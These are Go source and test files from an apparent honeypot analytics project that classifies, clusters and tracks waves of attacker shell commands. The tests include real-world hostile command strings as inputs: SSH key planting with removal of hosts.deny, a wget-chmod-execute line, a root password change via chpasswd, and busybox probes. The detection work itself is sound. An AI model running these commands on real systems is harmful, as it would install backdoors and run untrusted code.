		if a.medoids[i].count != b.medoids[i].count || a.medoids[i].sumDist != b.medoids[i].sumDist {
			t.Fatalf("medoid %d stats differ", i)
		}
	}
	if a.assigned != b.assigned || a.pruned != b.pruned || a.kernel != b.kernel ||
		a.reclusters != b.reclusters || a.silhouette != b.silhouette {
		t.Fatalf("counters differ: %+v-ish vs %+v-ish",
			[]int64{a.assigned, a.pruned, a.kernel, a.reclusters},
			[]int64{b.assigned, b.pruned, b.kernel, b.reclusters})
	}
	for i := range a.reservoir {
		if a.reservoir[i].text != b.reservoir[i].text {
			t.Fatalf("reservoir %d differs", i)
		}
	}
}

// TestNearestPruningExact verifies the multiset lower bound never
// changes the answer: nearest with pruning must equal the brute-force
// argmin over the full kernel.
func TestNearestPruningExact(t *testing.T) {
	texts := assignCorpus(400, 9)
	a := newAssigner(16, 32, 0.4, 0.3, 0, 3)
	ref := textdist.NewScratch()
	for _, txt := range texts {
		tokens := a.interner.Intern(textdist.Tokenize(txt))
		// Brute force before observe mutates the medoid set.
		wantBest, wantDist := -1, 0.0
		for i := range a.medoids {
			d := ref.NormalizedIDs(tokens, a.medoids[i].tokens)
			if wantBest < 0 || d < wantDist {
				wantBest, wantDist = i, d
			}
		}
		got, gotDist := a.nearest(tokens)
		if got != wantBest || gotDist != wantDist {
			t.Fatalf("nearest (%d, %v) != brute force (%d, %v) for %q",
				got, gotDist, wantBest, wantDist, txt)
		}
		a.observe(txt)
	}
	if a.pruned == 0 {
		t.Fatal("lower bound never pruned anything — test corpus too uniform or bound broken")
	}
}

// TestAssignClusterQuality checks the leader step actually separates
// the four template families instead of collapsing them.
func TestAssignClusterQuality(t *testing.T) {
	texts := assignCorpus(2000, 5)
	a := newAssigner(16, 128, 0.4, 0.25, 200, 1)
	for _, txt := range texts {
		c, d := a.observe(txt)
		if c < 0 || c >= len(a.medoids) {
			t.Fatalf("bad cluster index %d", c)
		}
		if d < 0 || d > 1 {
			t.Fatalf("distance %v out of [0,1]", d)
		}
	}
	if len(a.medoids) < 4 {
		t.Fatalf("expected at least the 4 template families, got %d clusters", len(a.medoids))
	}
	// Drift per cluster should be small: variants differ by one token.
	for i := range a.medoids {
		m := &a.medoids[i]
		if m.count > 10 && m.sumDist/float64(m.count) > 0.5 {
			t.Fatalf("cluster %d mean dist %v — variants not cohering", i, m.sumDist/float64(m.count))
		}
	}
}

// TestReclusterTriggers forces silhouette decay (drifting templates
// after the medoids are founded) and checks the rebuild fires.
func TestReclusterTriggers(t *testing.T) {
	a := newAssigner(4, 64, 0.3, 0.99, 50, 1) // impossible floor: every check reclusters
	texts := assignCorpus(600, 13)
	for _, txt := range texts {
		a.observe(txt)
	}
	if a.checks == 0 {
		t.Fatal("drift check never ran")
	}
	if a.reclusters == 0 {
		t.Fatal("silhouette floor 0.99 should have forced a recluster")
	}
	if len(a.medoids) == 0 || len(a.medoids) > 4 {
		t.Fatalf("bad medoid count %d after recluster", len(a.medoids))
	}
}

// TestAssignZeroClusters: MaxClusters 0 must be a safe no-op.
func TestAssignZeroClusters(t *testing.T) {
	a := newAssigner(0, 8, 0.4, 0.3, 10, 1)
	for _, txt := range assignCorpus(50, 2) {
		if c, _ := a.observe(txt); c != -1 {
			t.Fatalf("expected -1 with MaxClusters 0, got %d", c)
		}
	}
}
