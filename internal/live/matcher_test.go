package live

import (
	"math/rand"
	"strings"
	"testing"

	"honeynet/internal/classify"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

// corpusTexts simulates a corpus and returns the distinct command
// texts, the classification input population.
func corpusTexts(t testing.TB, scale float64, seed int64) []string {
	t.Helper()
	seen := map[string]bool{}
	var texts []string
	_, err := simulate.Run(simulate.Config{
		Scale:   scale,
		Seed:    seed,
		Discard: true,
		Sink: func(r *session.Record) {
			txt := r.CommandText()
			if txt == "" || seen[txt] {
				return
			}
			seen[txt] = true
			texts = append(texts, txt)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(texts) == 0 {
		t.Fatal("simulated corpus produced no command texts")
	}
	return texts
}

// TestStreamingMatchesBatch is the correctness bar: the single-pass
// streaming classifier must agree byte-for-byte with the batch rule
// probe over simulated corpora at several sample sizes.
func TestStreamingMatchesBatch(t *testing.T) {
	c := classify.New()
	m := NewMatcher(c)
	for _, tc := range []struct {
		scale float64
		seed  int64
	}{
		{100000, 1},
		{50000, 2},
		{20000, 3},
	} {
		texts := corpusTexts(t, tc.scale, tc.seed)
		for _, txt := range texts {
			want := c.ClassifyUncached(txt)
			got := m.Classify(txt)
			if got != want {
				t.Fatalf("scale=%v: streaming %q != batch %q for %q", tc.scale, got, want, txt)
			}
		}
		t.Logf("scale=%v: %d distinct texts agree", tc.scale, len(texts))
	}
}

// TestStreamingMatchesBatchAdversarial exercises the corners the
// simulator never produces: literal fragments, overlapping literals,
// rule-precedence traps, empty and binary-ish inputs.
func TestStreamingMatchesBatchAdversarial(t *testing.T) {
	c := classify.New()
	m := NewMatcher(c)
	cases := []string{
		"",
		"mdrfckr",
		"mdrfckrhosts.deny",
		"hosts.deny mdrfck", // literal prefix but not the full literal
		`cd ~ && rm -rf .ssh && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys; echo > /etc/hosts.deny`,
		"wget curl ftp echo",
		"wgetcurl", // \b requires must fail even though substrings occur
		"echo ok echo okecho ok",
		strings.Repeat("busybox ", 100),
		"uname -a; nproc; /bin/busybox ABCDE; tftp; wget",
		"\x00\x01\x02 echo \xff\xfe",
		"dget -4 wget -4",
		"update.shupdate.sh",
		"perl perl dred dred",
		"max-redirmax",
	}
	// Every batch-test vector plus random splices of literals.
	for _, r := range c.Rules() {
		cases = append(cases, strings.Join(r.Literals(), " "))
		cases = append(cases, strings.Join(r.Literals(), ""))
	}
	rng := rand.New(rand.NewSource(7))
	var lits []string
	for _, r := range c.Rules() {
		lits = append(lits, r.Literals()...)
	}
	for i := 0; i < 2000; i++ {
		n := 1 + rng.Intn(5)
		var b strings.Builder
		for j := 0; j < n; j++ {
			lit := lits[rng.Intn(len(lits))]
			if rng.Intn(3) == 0 && len(lit) > 1 {
				lit = lit[:1+rng.Intn(len(lit)-1)] // partial literal
			}
			b.WriteString(lit)
			if rng.Intn(2) == 0 {
				b.WriteByte(' ')
			}
		}
		cases = append(cases, b.String())
	}
	for _, txt := range cases {
		if got, want := m.Classify(txt), c.ClassifyUncached(txt); got != want {
			t.Fatalf("streaming %q != batch %q for %q", got, want, txt)
		}
	}
}

// TestMatcherStats sanity-checks the work accounting: candidates +
// skipped covers every rule up to the first match.
func TestMatcherStats(t *testing.T) {
	c := classify.New()
	m := NewMatcher(c)
	var st Stats
	cat := m.ClassifyStats("systemctl status sshd", &st)
	if cat != classify.Unknown {
		t.Fatalf("got %q", cat)
	}
	if st.Candidates+st.Skipped != len(c.Rules()) {
		t.Fatalf("candidates %d + skipped %d != %d rules", st.Candidates, st.Skipped, len(c.Rules()))
	}
	if st.Skipped == 0 {
		t.Fatal("automaton should skip most rules on an unknown text")
	}
	if m.NumPatterns() == 0 {
		t.Fatal("no literal patterns compiled")
	}
}

// TestNecessaryLits pins the extractor's behavior on representative
// rule-table shapes and checks the one property everything rests on:
// soundness — if the regex matches a text, the text contains at least
// one extracted literal.
func TestNecessaryLits(t *testing.T) {
	cases := []struct {
		expr string
		want []string
	}{
		{`\bcurl\b`, []string{"curl"}},
		{`\becho\b`, []string{"echo"}},
		{`uname\s+-s\s+-v\s+-n\s+-r\s+-m`, []string{"uname"}},
		{`root:[A-Za-z0-9]{15,}`, []string{"root:"}},
		// The parser factors the shared "x" prefix out of the
		// alternation; the branch remainders are still necessary.
		{`(x0x0x0|xoxoxo)`, []string{"0x0x0", "oxoxo"}},
		{`(/bin/busybox\s|busybox\s)`, []string{"/bin/busybox", "busybox"}},
		{`openssl passwd -1 \S{8}`, []string{"openssl passwd -1 "}},
		{`\S{8}`, nil},                 // char class only: nothing derivable
		{`(?i)sora`, nil},              // case-folded literal is no containment guarantee
		{`(abc)?def`, []string{"def"}}, // optional branch contributes nothing
	}
	for _, tc := range cases {
		got := necessaryLits(tc.expr)
		if len(got) != len(tc.want) {
			t.Fatalf("necessaryLits(%q) = %q, want %q", tc.expr, got, tc.want)
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Fatalf("necessaryLits(%q) = %q, want %q", tc.expr, got, tc.want)
			}
		}
	}

	// Soundness over the whole rule table and a simulated corpus: a
	// match without any necessary literal present would break the
	// streaming prefilter's byte-identity.
	texts := corpusTexts(t, 50000, 5)
	c := classify.New()
	for _, r := range c.Rules() {
		for _, re := range r.RequireRegexps() {
			lits := necessaryLits(re.String())
			if lits == nil {
				continue
			}
			for _, txt := range texts {
				if !re.MatchString(txt) {
					continue
				}
				found := false
				for _, lit := range lits {
					if strings.Contains(txt, lit) {
						found = true
						break
					}
				}
				if !found {
					t.Fatalf("rule %s: %q matches %q but contains none of %q",
						r.Name, re, txt, lits)
				}
			}
		}
	}
}

// TestACAutomaton cross-checks the automaton against strings.Contains
// on random texts over a small alphabet engineered for overlaps.
func TestACAutomaton(t *testing.T) {
	pats := []string{"ab", "abc", "bc", "c", "abca", "aa", "cab", "bcab"}
	b := newACBuilder()
	for i, p := range pats {
		b.add(p, i)
	}
	ac := b.build()
	rng := rand.New(rand.NewSource(11))
	for i := 0; i < 5000; i++ {
		n := rng.Intn(20)
		buf := make([]byte, n)
		for j := range buf {
			buf[j] = "abc"[rng.Intn(3)]
		}
		text := string(buf)
		hits := make([]bool, len(pats))
		ac.scan(text, hits)
		for j, p := range pats {
			if hits[j] != strings.Contains(text, p) {
				t.Fatalf("text %q pattern %q: automaton %v, Contains %v", text, p, hits[j], !hits[j])
			}
		}
	}
}

// FuzzLiveClassify fuzzes streaming-vs-batch agreement on arbitrary
// command text.
func FuzzLiveClassify(f *testing.F) {
	c := classify.New()
	m := NewMatcher(c)
	f.Add("mdrfckr hosts.deny")
	f.Add(`echo "root:Xy9Zq8Lm2Np4Rs6Tu"|chpasswd`)
	f.Add("wget http://x/a; chmod +x a; ./a")
	f.Add("/bin/busybox KDVRN")
	f.Add("")
	f.Add("\x00\xff echo ok")
	f.Fuzz(func(t *testing.T, text string) {
		if got, want := m.Classify(text), c.ClassifyUncached(text); got != want {
			t.Fatalf("streaming %q != batch %q for %q", got, want, text)
		}
	})
}
