package live

import (
	"encoding/json"
	"net/http"
	"sort"
	"sync"
	"time"

	"honeynet/internal/classify"
	"honeynet/internal/obs"
	"honeynet/internal/session"
)

// Options tunes a Pipeline. The zero value takes every default.
type Options struct {
	// Classifier supplies the rule table (default classify.New()).
	Classifier *classify.Classifier

	// MaxClusters caps the live medoid set (default 24 — the paper's
	// k=6 plus headroom for campaign churn).
	MaxClusters int
	// Reservoir is the uniform sample size behind silhouette checks and
	// re-clustering (default 192).
	Reservoir int
	// NewClusterDist is the normalized DLD past which a session founds
	// a new cluster instead of joining its nearest medoid (default 0.6).
	NewClusterDist float64
	// SilhouetteFloor triggers re-clustering when the reservoir's mean
	// silhouette under the live medoids decays below it (default 0.25).
	SilhouetteFloor float64
	// RecheckEvery is how many assignments run between silhouette
	// checks (default 256; 0 disables drift checks).
	RecheckEvery int
	// Seed fixes the reservoir sampling; together with arrival order it
	// makes the whole engine deterministic (default 1).
	Seed int64

	// FastHalfLife and SlowHalfLife set the EWMA pair behind wave
	// detection (defaults 5m and 6h of event time).
	FastHalfLife, SlowHalfLife time.Duration
	// OnsetFactor opens a wave when a category's fast rate exceeds it
	// times the slow baseline (default 8); OffsetFactor closes it when
	// the fast rate falls below it times the baseline (default 2).
	OnsetFactor, OffsetFactor float64
	// MinWaveRate is the events/min floor below which waves never open
	// (default 1).
	MinWaveRate float64
	// MaxWaves bounds the retained wave log (default 256).
	MaxWaves int
}

func (o *Options) defaults() {
	if o.Classifier == nil {
		o.Classifier = classify.New()
	}
	if o.MaxClusters == 0 {
		o.MaxClusters = 24
	}
	if o.Reservoir == 0 {
		o.Reservoir = 192
	}
	if o.NewClusterDist == 0 {
		o.NewClusterDist = 0.6
	}
	if o.SilhouetteFloor == 0 {
		o.SilhouetteFloor = 0.25
	}
	if o.RecheckEvery == 0 {
		o.RecheckEvery = 256
	}
	if o.Seed == 0 {
		o.Seed = 1
	}
	if o.FastHalfLife == 0 {
		o.FastHalfLife = 5 * time.Minute
	}
	if o.SlowHalfLife == 0 {
		o.SlowHalfLife = 6 * time.Hour
	}
	if o.OnsetFactor == 0 {
		o.OnsetFactor = 8
	}
	if o.OffsetFactor == 0 {
		o.OffsetFactor = 2
	}
	if o.MinWaveRate == 0 {
		o.MinWaveRate = 1
	}
	if o.MaxWaves == 0 {
		o.MaxWaves = 256
	}
}

// Pipeline is the streaming analytics engine: Observe every ingested
// record and it keeps classification counts, cluster assignments, and
// campaign waves current. Safe for concurrent use; Observe is designed
// to sit directly on the ingest hot path (one automaton scan per
// session; the DLD row only runs for download sessions, the same
// population the batch §6 clustering samples).
type Pipeline struct {
	matcher *Matcher

	mu    sync.Mutex
	asg   *assigner
	camp  *campaigns
	stats Stats // cumulative matcher work counters

	sessions   int64
	classified int64
	unknown    int64
	clustered  int64
	catCounts  map[string]int64
	started    time.Time
}

// NewPipeline builds a Pipeline from opts.
func NewPipeline(opts Options) *Pipeline {
	opts.defaults()
	return &Pipeline{
		matcher: NewMatcher(opts.Classifier),
		asg: newAssigner(opts.MaxClusters, opts.Reservoir, opts.NewClusterDist,
			opts.SilhouetteFloor, opts.RecheckEvery, opts.Seed),
		camp: newCampaigns(opts.FastHalfLife, opts.SlowHalfLife,
			opts.OnsetFactor, opts.OffsetFactor, opts.MinWaveRate, opts.MaxWaves),
		catCounts: map[string]int64{},
		started:   time.Now(),
	}
}

// Observe folds one ingested record into the live state. It never
// fails and never modifies r — safe to call from any sink or append
// path.
func (p *Pipeline) Observe(r *session.Record) {
	text := r.CommandText()
	var cat string
	var st Stats
	if text != "" {
		cat = p.matcher.ClassifyStats(text, &st)
	}
	t := r.End
	if t.IsZero() {
		t = r.Start
	}

	p.mu.Lock()
	defer p.mu.Unlock()
	p.sessions++
	if text == "" {
		return
	}
	p.stats.Candidates += st.Candidates
	p.stats.Skipped += st.Skipped
	p.classified++
	if cat == classify.Unknown {
		p.unknown++
	}
	p.catCounts[cat]++
	p.camp.observe(cat, t)
	// Cluster the population the batch pipeline clusters: sessions that
	// load files onto the honeypot (§6).
	if len(r.Downloads) > 0 {
		p.asg.observe(text)
		p.clustered++
	}
}

// Classify exposes the streaming classifier (for tail filters and
// tests); byte-identical to the batch classifier.
func (p *Pipeline) Classify(text string) string { return p.matcher.Classify(text) }

// Snapshot is the JSON document served on /live.
type Snapshot struct {
	Uptime     string `json:"uptime"`
	Sessions   int64  `json:"sessions"`
	Classified int64  `json:"classified"`
	Unknown    int64  `json:"unknown"`
	Clustered  int64  `json:"clustered"`

	Categories []CategorySnap `json:"categories"`
	Clusters   []ClusterSnap  `json:"clusters"`
	Waves      []Wave         `json:"waves"`
	ActiveDrop bool           `json:"activity_drop"`

	Silhouette float64 `json:"silhouette"`
	Reclusters int64   `json:"reclusters"`
	Pruned     int64   `json:"assign_pruned"`
	Kernel     int64   `json:"assign_kernel"`
}

// CategorySnap is one category's live rate state.
type CategorySnap struct {
	Name  string  `json:"name"`
	Count int64   `json:"count"`
	Rate  float64 `json:"rate_per_min"`
	Base  float64 `json:"baseline_per_min"`
	Wave  bool    `json:"wave"`
}

// ClusterSnap is one live cluster.
type ClusterSnap struct {
	ID     int     `json:"id"`
	Size   int64   `json:"size"`
	Drift  float64 `json:"mean_dist"`
	Medoid string  `json:"medoid"`
}

// Snapshot captures the live state. Categories sort by descending
// count then name; clusters by id.
func (p *Pipeline) Snapshot() *Snapshot {
	p.mu.Lock()
	defer p.mu.Unlock()
	s := &Snapshot{
		Uptime:     time.Since(p.started).Round(time.Second).String(),
		Sessions:   p.sessions,
		Classified: p.classified,
		Unknown:    p.unknown,
		Clustered:  p.clustered,
		ActiveDrop: p.camp.drop,
		Silhouette: p.asg.silhouette,
		Reclusters: p.asg.reclusters,
		Pruned:     p.asg.pruned,
		Kernel:     p.asg.kernel,
	}
	for name, n := range p.catCounts {
		cs := CategorySnap{Name: name, Count: n}
		if r := p.camp.cats[name]; r != nil {
			cs.Rate, cs.Base, cs.Wave = r.fast, r.slow, r.wave != 0
		}
		s.Categories = append(s.Categories, cs)
	}
	sort.Slice(s.Categories, func(i, j int) bool {
		if s.Categories[i].Count != s.Categories[j].Count {
			return s.Categories[i].Count > s.Categories[j].Count
		}
		return s.Categories[i].Name < s.Categories[j].Name
	})
	for i := range p.asg.medoids {
		m := &p.asg.medoids[i]
		cs := ClusterSnap{ID: i, Size: m.count, Medoid: truncate(m.text, 120)}
		if m.count > 0 {
			cs.Drift = m.sumDist / float64(m.count)
		}
		s.Clusters = append(s.Clusters, cs)
	}
	s.Waves = append([]Wave(nil), p.camp.waves...)
	return s
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}

// Handler serves the /live JSON snapshot.
func (p *Pipeline) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		_ = enc.Encode(p.Snapshot())
	})
}

// locked reads one int64 counter under the lock (CounterFunc bridge).
func (p *Pipeline) locked(f func() int64) func() int64 {
	return func() int64 {
		p.mu.Lock()
		defer p.mu.Unlock()
		return f()
	}
}

// Register exposes the pipeline on reg:
//
//	honeynet_live_sessions_total
//	honeynet_live_classified_total
//	honeynet_live_unknown_total
//	honeynet_live_clustered_total
//	honeynet_live_rule_candidates_total
//	honeynet_live_rules_skipped_total
//	honeynet_live_clusters
//	honeynet_live_reclusters_total
//	honeynet_live_silhouette
//	honeynet_live_assign_pruned_total
//	honeynet_live_assign_kernel_total
//	honeynet_live_waves_total
//	honeynet_live_waves_active
//	honeynet_live_activity_drops_total
func (p *Pipeline) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_live_sessions_total",
		"Records observed by the live pipeline.",
		p.locked(func() int64 { return p.sessions }))
	reg.CounterFunc("honeynet_live_classified_total",
		"Sessions with command text classified at ingest.",
		p.locked(func() int64 { return p.classified }))
	reg.CounterFunc("honeynet_live_unknown_total",
		"Classified sessions that matched no rule.",
		p.locked(func() int64 { return p.unknown }))
	reg.CounterFunc("honeynet_live_clustered_total",
		"Download sessions assigned to a live cluster.",
		p.locked(func() int64 { return p.clustered }))
	reg.CounterFunc("honeynet_live_rule_candidates_total",
		"Rules regex-verified after surviving the automaton prefilter.",
		p.locked(func() int64 { return int64(p.stats.Candidates) }))
	reg.CounterFunc("honeynet_live_rules_skipped_total",
		"Rules eliminated by the single-pass automaton without any regex.",
		p.locked(func() int64 { return int64(p.stats.Skipped) }))
	reg.GaugeFunc("honeynet_live_clusters",
		"Live medoid count.",
		func() float64 {
			p.mu.Lock()
			defer p.mu.Unlock()
			return float64(len(p.asg.medoids))
		})
	reg.CounterFunc("honeynet_live_reclusters_total",
		"Bounded K-medoids rebuilds triggered by silhouette decay.",
		p.locked(func() int64 { return p.asg.reclusters }))
	reg.GaugeFunc("honeynet_live_silhouette",
		"Mean silhouette of the reservoir under the live medoids at the last drift check.",
		func() float64 {
			p.mu.Lock()
			defer p.mu.Unlock()
			return p.asg.silhouette
		})
	reg.CounterFunc("honeynet_live_assign_pruned_total",
		"Medoid candidates discarded by the multiset lower bound before any kernel run.",
		p.locked(func() int64 { return p.asg.pruned }))
	reg.CounterFunc("honeynet_live_assign_kernel_total",
		"Full DLD kernel evaluations run by online assignment.",
		p.locked(func() int64 { return p.asg.kernel }))
	reg.CounterFunc("honeynet_live_waves_total",
		"Campaign waves detected (open + closed).",
		p.locked(func() int64 { return int64(len(p.camp.waves)) }))
	reg.GaugeFunc("honeynet_live_waves_active",
		"Currently open campaign waves.",
		func() float64 {
			p.mu.Lock()
			defer p.mu.Unlock()
			return float64(p.camp.active)
		})
	reg.CounterFunc("honeynet_live_activity_drops_total",
		"Fleet-wide activity-drop events detected.",
		p.locked(func() int64 { return p.camp.dropsTot }))
}
