package live

import (
	"testing"
	"time"
)

func newTestCampaigns() *campaigns {
	return newCampaigns(5*time.Minute, 6*time.Hour, 8, 2, 1, 16)
}

// TestWaveOnsetOffset drives the mdrfckr pattern: a long quiet
// baseline, a hundred-events-a-minute burst, then silence.
func TestWaveOnsetOffset(t *testing.T) {
	c := newTestCampaigns()
	t0 := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)

	// Baseline: one event every 30 minutes for two days.
	tm := t0
	for i := 0; i < 96; i++ {
		c.observe("mdrfckr", tm)
		tm = tm.Add(30 * time.Minute)
	}
	if c.active != 0 {
		t.Fatalf("baseline traffic opened %d waves", c.active)
	}

	// Burst: 300 events over 3 minutes.
	for i := 0; i < 300; i++ {
		c.observe("mdrfckr", tm)
		tm = tm.Add(600 * time.Millisecond)
	}
	if c.active != 1 {
		t.Fatalf("burst did not open a wave (active=%d, waves=%d)", c.active, len(c.waves))
	}
	w := c.waves[len(c.waves)-1]
	if w.Category != "mdrfckr" || !w.End.IsZero() {
		t.Fatalf("bad open wave %+v", w)
	}
	if w.Peak < 10 {
		t.Fatalf("peak %v too low for a 100/min burst", w.Peak)
	}

	// Silence, then a stray event: the fast rate has decayed far below
	// the baseline — the wave must close.
	tm = tm.Add(6 * time.Hour)
	c.observe("mdrfckr", tm)
	if c.active != 0 {
		t.Fatalf("wave still open after 6h silence")
	}
	w = c.waves[len(c.waves)-1]
	if w.End.IsZero() {
		t.Fatal("closed wave has zero End")
	}
}

// TestActivityDrop drives the section 10 signal: steady fleet traffic,
// then near-total silence.
func TestActivityDrop(t *testing.T) {
	c := newTestCampaigns()
	tm := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	// Steady: one event a minute for a day, alternating categories so no
	// per-category wave fires.
	cats := []string{"a", "b", "c", "d"}
	for i := 0; i < 1440; i++ {
		c.observe(cats[i%len(cats)], tm)
		tm = tm.Add(time.Minute)
	}
	if c.drop {
		t.Fatal("steady traffic flagged as a drop")
	}
	// Silence for two days, then one straggler event.
	tm = tm.Add(48 * time.Hour)
	c.observe("a", tm)
	if !c.drop {
		t.Fatal("48h silence not flagged as an activity drop")
	}
	if c.dropsTot != 1 {
		t.Fatalf("dropsTot = %d", c.dropsTot)
	}
	// Recovery: traffic resumes at the old rate.
	for i := 0; i < 2000; i++ {
		c.observe(cats[i%len(cats)], tm)
		tm = tm.Add(30 * time.Second)
	}
	if c.drop {
		t.Fatal("recovered traffic still flagged as a drop")
	}
}

// TestWaveLogBounded floods the detector with bursts across many
// categories and checks the log stays within maxLog with open-wave
// back-references intact.
func TestWaveLogBounded(t *testing.T) {
	c := newCampaigns(time.Minute, 6*time.Hour, 8, 2, 1, 4)
	tm := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	cats := []string{"a", "b", "c", "d", "e", "f", "g", "h"}
	for round := 0; round < 6; round++ {
		cat := cats[round%len(cats)]
		// Quiet baseline for this category.
		for i := 0; i < 30; i++ {
			c.observe(cat, tm)
			tm = tm.Add(time.Hour)
		}
		// Burst to open a wave...
		for i := 0; i < 120; i++ {
			c.observe(cat, tm)
			tm = tm.Add(time.Second)
		}
		// ...then cool down to close it.
		tm = tm.Add(12 * time.Hour)
		c.observe(cat, tm)
	}
	if len(c.waves) > 4 {
		t.Fatalf("wave log %d exceeds bound 4", len(c.waves))
	}
	for cat, r := range c.cats {
		if r.wave != 0 {
			w := c.waves[r.wave-1]
			if w.Category != cat || !w.End.IsZero() {
				t.Fatalf("stale wave back-reference for %q: %+v", cat, w)
			}
		}
	}
}

// TestOutOfOrderEvents: a timestamp before the last must not rewind or
// blow up the rates.
func TestOutOfOrderEvents(t *testing.T) {
	c := newTestCampaigns()
	tm := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	c.observe("a", tm)
	c.observe("a", tm.Add(-time.Hour))
	c.observe("a", tm.Add(time.Minute))
	r := c.cats["a"]
	if r.fast <= 0 || r.slow <= 0 {
		t.Fatalf("rates went non-positive: fast=%v slow=%v", r.fast, r.slow)
	}
	if r.count != 3 {
		t.Fatalf("count = %d", r.count)
	}
}
