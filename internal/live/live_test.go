package live

import (
	"encoding/json"
	"net/http/httptest"
	"sync"
	"testing"
	"time"

	"honeynet/internal/classify"
	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

// simRecords replays a simulated corpus and returns its records in
// arrival order.
func simRecords(t testing.TB, scale float64, seed int64) []*session.Record {
	t.Helper()
	var recs []*session.Record
	_, err := simulate.Run(simulate.Config{
		Scale:   scale,
		Seed:    seed,
		Discard: true,
		Sink: func(r *session.Record) {
			cp := *r
			recs = append(recs, &cp)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// TestPipelineEndToEnd replays a corpus through the pipeline and checks
// the snapshot's accounting against a direct batch recount.
func TestPipelineEndToEnd(t *testing.T) {
	recs := simRecords(t, 100000, 21)
	p := NewPipeline(Options{Seed: 3})
	for _, r := range recs {
		p.Observe(r)
	}
	s := p.Snapshot()
	if s.Sessions != int64(len(recs)) {
		t.Fatalf("sessions %d != %d records", s.Sessions, len(recs))
	}

	// Batch recount with the reference classifier.
	c := classify.New()
	var classified, unknown, downloads int64
	want := map[string]int64{}
	for _, r := range recs {
		txt := r.CommandText()
		if txt == "" {
			continue
		}
		classified++
		cat := c.ClassifyUncached(txt)
		want[cat]++
		if cat == classify.Unknown {
			unknown++
		}
		if len(r.Downloads) > 0 {
			downloads++
		}
	}
	if s.Classified != classified || s.Unknown != unknown {
		t.Fatalf("classified/unknown %d/%d != batch %d/%d", s.Classified, s.Unknown, classified, unknown)
	}
	if s.Clustered != downloads {
		t.Fatalf("clustered %d != download sessions %d", s.Clustered, downloads)
	}
	got := map[string]int64{}
	var total int64
	for _, cs := range s.Categories {
		got[cs.Name] = cs.Count
		total += cs.Count
	}
	if total != classified {
		t.Fatalf("category counts sum %d != classified %d", total, classified)
	}
	for cat, n := range want {
		if got[cat] != n {
			t.Fatalf("category %q: live %d != batch %d", cat, got[cat], n)
		}
	}
	if downloads > 0 && len(s.Clusters) == 0 {
		t.Fatal("download sessions observed but no live clusters")
	}
}

// TestPipelineDeterminism: identical options and arrival order must
// yield identical snapshots (modulo uptime).
func TestPipelineDeterminism(t *testing.T) {
	recs := simRecords(t, 150000, 8)
	run := func() *Snapshot {
		p := NewPipeline(Options{Seed: 5})
		for _, r := range recs {
			p.Observe(r)
		}
		s := p.Snapshot()
		s.Uptime = ""
		return s
	}
	a, _ := json.Marshal(run())
	b, _ := json.Marshal(run())
	if string(a) != string(b) {
		t.Fatalf("snapshots differ:\n%s\n%s", a, b)
	}
}

// TestPipelineConcurrent hammers Observe/Snapshot/Classify from many
// goroutines; run under -race this is the ingest-path safety test.
func TestPipelineConcurrent(t *testing.T) {
	recs := simRecords(t, 200000, 4)
	p := NewPipeline(Options{Seed: 2})
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(off int) {
			defer wg.Done()
			for i := off; i < len(recs); i += 4 {
				p.Observe(recs[i])
			}
		}(w)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 50; i++ {
			_ = p.Snapshot()
			_ = p.Classify("wget http://example/a.sh")
		}
	}()
	wg.Wait()
	if s := p.Snapshot(); s.Sessions != int64(len(recs)) {
		t.Fatalf("sessions %d != %d", s.Sessions, len(recs))
	}
}

// TestPipelineHandlerAndRegister smoke-tests the /live JSON document
// and the metric registration (a duplicate-name panic would fail here).
func TestPipelineHandlerAndRegister(t *testing.T) {
	p := NewPipeline(Options{})
	reg := obs.NewRegistry()
	p.Register(reg)

	now := time.Now()
	p.Observe(&session.Record{
		Start: now, End: now,
		Commands: []session.Command{{Raw: `cd ~ && echo "ssh-rsa AAA mdrfckr" >> .ssh/authorized_keys && echo > /etc/hosts.deny`}},
		Protocol: "ssh",
	})
	rec := httptest.NewRecorder()
	p.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/live", nil))
	if rec.Code != 200 {
		t.Fatalf("status %d", rec.Code)
	}
	var s Snapshot
	if err := json.Unmarshal(rec.Body.Bytes(), &s); err != nil {
		t.Fatalf("bad /live JSON: %v", err)
	}
	if s.Sessions != 1 || s.Classified != 1 {
		t.Fatalf("bad snapshot %+v", s)
	}
	if len(s.Categories) != 1 || s.Categories[0].Name == classify.Unknown {
		t.Fatalf("mdrfckr text not classified: %+v", s.Categories)
	}
}

var (
	benchOnce  sync.Once
	benchTexts []string
	benchDLs   []string
)

func benchCorpus(b *testing.B) ([]string, []string) {
	benchOnce.Do(func() {
		seen := map[string]bool{}
		_, err := simulate.Run(simulate.Config{
			Scale:   50000,
			Seed:    1,
			Discard: true,
			Sink: func(r *session.Record) {
				txt := r.CommandText()
				if txt == "" {
					return
				}
				if !seen[txt] {
					seen[txt] = true
					benchTexts = append(benchTexts, txt)
				}
				if len(r.Downloads) > 0 && len(benchDLs) < 4000 {
					benchDLs = append(benchDLs, txt)
				}
			},
		})
		if err != nil {
			panic(err)
		}
	})
	if len(benchTexts) == 0 || len(benchDLs) == 0 {
		b.Fatal("empty bench corpus")
	}
	return benchTexts, benchDLs
}

// BenchmarkLiveClassify measures the streaming single-pass classifier.
func BenchmarkLiveClassify(b *testing.B) {
	texts, _ := benchCorpus(b)
	m := NewMatcher(classify.New())
	var bytes int64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		txt := texts[i%len(texts)]
		bytes += int64(len(txt))
		_ = m.Classify(txt)
	}
	b.SetBytes(bytes / int64(b.N))
}

